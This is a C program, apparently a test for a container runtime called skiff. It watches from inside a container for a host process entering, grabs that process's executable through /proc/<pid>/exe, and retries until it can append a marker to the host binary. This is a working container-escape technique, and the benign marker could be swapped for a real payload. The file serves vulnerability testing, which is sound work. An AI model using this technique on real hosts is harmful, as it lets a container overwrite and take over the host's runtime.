/* overwrite: waits in a container for a process of skiff, and writes to the end of the program that it runs.
 *
 * While a program runs, its file can't be opened for writing: "Text file busy". So keep a descriptor of it, and
 * ask again and again through /proc/self/fd. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

/* The last process ID that our PID namespace gave out: the last word of /proc/loadavg. */
static int last_pid(int loadavg)
{
	char text[128] = "";

	if (pread(loadavg, text, sizeof text - 1, 0) <= 0)
		return 0;
	return atoi(strrchr(text, ' ') + 1);
}

/* Opens the program of process pid, if it is no file of this container. */
static int look(int pid, dev_t ours)
{
	char path[64];
	struct stat status;
	int file;

	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	file = open(path, O_RDONLY | O_CLOEXEC);
	if (file >= 0 && (fstat(file, &status) < 0 || status.st_ino == ours ||
			  access("/bin/busybox", F_OK) < 0 || lseek(file, 0, SEEK_END) < 0)) {
		close(file);
		return -1;
	}
	return file;
}

static int overwrite(int file)
{
	char path[64];
	int writable = -1;

	snprintf(path, sizeof path, "/proc/self/fd/%d", file);
	for (time_t end = time(NULL) + 2; writable < 0 && time(NULL) < end;) {
		writable = open(path, O_WRONLY | O_APPEND);
		if (writable < 0 && errno != ETXTBSY)
			return -1;
	}
	return writable >= 0 && write(writable, "overwrote", 9) == 9 ? 0 : -1;
}

int main(void)
{
	int loadavg = open("/proc/loadavg", O_RDONLY);
	struct stat busybox;

	stat("/bin/busybox", &busybox);
	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("ready\n");
	for (;;) {
		int last = last_pid(loadavg);

		for (int pid = last > 1 ? last : 2; pid <= last + 1; pid++) {
			int file = look(pid, (dev_t)busybox.st_ino);

			if (file < 0)
				continue;
			printf("%s\n", overwrite(file) < 0 ? strerror(errno) :
							     "the program can be written to");
			return 0;
		}
	}
}
